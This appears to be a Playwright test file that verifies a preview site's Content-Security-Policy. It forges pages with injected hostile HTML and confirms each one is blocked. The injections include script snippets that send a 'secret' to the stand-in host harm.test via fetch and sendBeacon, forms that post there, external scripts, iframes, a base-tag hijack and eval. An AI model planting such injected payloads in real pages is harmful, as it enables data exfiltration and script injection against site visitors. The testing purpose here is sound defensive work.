import type { Page, Request } from '@playwright/test';
import { REFUSED } from '../browser-messages';
import { followLink } from '../follow-link';
import { openPage } from '../open-page';
import { chooseResult, openSearch } from '../search-dialog';
import { fixtureTest, test as siteTest } from '../site-test';
import { takeComplaints } from '../take-complaints';

const { expect } = siteTest;

/** Runs on a preview of the fixture site whose server sends preview headers: see e2e/serve-bundle.ts. */
const test = fixtureTest.extend({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names from the pattern
  baseURL: async ({}, use) => {
    await use(process.env.PREVIEW_SITE ?? '');
  },
});
test.skip(() => process.env.PREVIEW_SITE === process.env.FIXTURE_SITE, 'there is no preview');

const OWN_POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** Responds with a page that a stranger could have built: without its own policy, and with `added` in it. */
const forgePage = (page: Page, path: string, added: string) =>
  page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    expect(html).toMatch(OWN_POLICY);
    const body = html.replace(OWN_POLICY, '').replace('</body>', () => `${added}</body>`);
    await route.fulfill({ response, body });
  });

test('previews work under the policy that their host sends', async ({ page }) => {
  const answer = await page.goto('/');
  const policy = answer?.headers()['content-security-policy'];
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("form-action 'none'");

  // The fixture reports policy violations as failures.
  await openSearch(page, '/', 'changeover');
  await chooseResult(page, 'changeover');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await followLink(page, '/tabs');
  await page.getByRole('tab', { name: 'TypeScript', exact: true }).first().click();
  await expect(page.getByRole('complementary', { name: 'Preview' })).toBeVisible();
  await page.getByRole('button', { name: /^Color mode: / }).click();
  await openPage(page, '/explained');
  await page.locator('main .explained').first().click();
  await expect(page.locator('main [popover]:popover-open')).toHaveCount(1);
  const isLoaded = () => [...document.fonts].some(({ status }) => status === 'loaded');
  await expect.poll(() => page.evaluate(isLoaded)).toBe(true);
});

test('the page of a stranger can neither send anything elsewhere nor load or run anything', async ({
  page,
  complaints,
}) => {
  const sent: string[] = [];
  page.on('requestfinished', (request: Request) => sent.push(request.url()));
  for (const { name, added, refused } of [
    {
      name: 'send a form',
      added: '<form action="https://harm.test/" method="post"><button>Sign in</button></form>',
      refused: /policy: form-action refuses https:\/\/harm\.test/,
    },
    {
      name: 'send a form to itself',
      added: '<form action="/" method="post"><button>Sign in</button></form>',
      refused: /policy: form-action refuses/,
    },
    {
      name: 'ask another host',
      added: "<script>fetch('https://harm.test/?secret').catch(() => {})</script>",
      refused: /policy: connect-src refuses https:\/\/harm\.test/,
    },
    {
      name: 'report to another host',
      added: "<script>navigator.sendBeacon('https://harm.test/', 'secret')</script>",
      refused: /policy: connect-src refuses https:\/\/harm\.test/,
    },
    {
      name: "load another host's script",
      added: '<script src="https://harm.test/a.js"></script>',
      refused: /policy: script-src-elem refuses https:\/\/harm\.test/,
    },
    {
      name: "load another host's image",
      added: '<img alt="" src="https://harm.test/a.png">',
      refused: /policy: img-src refuses https:\/\/harm\.test/,
    },
    {
      name: 'frame a page',
      added: '<iframe title="a" src="https://harm.test/"></iframe>',
      refused: /policy: frame-src refuses https:\/\/harm\.test/,
    },
    {
      name: 'run a plugin',
      added: '<object data="https://harm.test/a"></object>',
      refused: /policy: object-src refuses https:\/\/harm\.test/,
    },
    {
      name: 'move its links to another host',
      added:
        "<script>document.head.append(Object.assign(document.createElement('base'), { href: 'https://harm.test/' }))</script>",
      refused: /policy: base-uri refuses https:\/\/harm\.test/,
    },
    {
      name: 'evaluate text',
      added: "<script>try { eval('1') } catch {}</script>",
      refused: /policy: script-src refuses eval/,
    },
  ]) {
    await test.step(`it can't ${name}`, async () => {
      await page.unrouteAll();
      await forgePage(page, '/tabs', added);
      await page.goto('/tabs');
      const button = page.getByRole('button', { name: 'Sign in' });
      // Playwright's own click would wait for the navigation that the policy refuses.
      if (added.includes('<form')) await button.evaluate((form: HTMLButtonElement) => form.click());
      await expect.poll(() => complaints.some((text) => refused.test(text))).toBe(true);
      expect(sent.filter((url) => url.includes('harm.test'))).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/tabs');
      takeComplaints(complaints, REFUSED);
      takeComplaints(complaints, /^console error: .*Fetch API/);
      takeComplaints(complaints, /^request to https:\/\/harm\.test/);
    });
  }
});
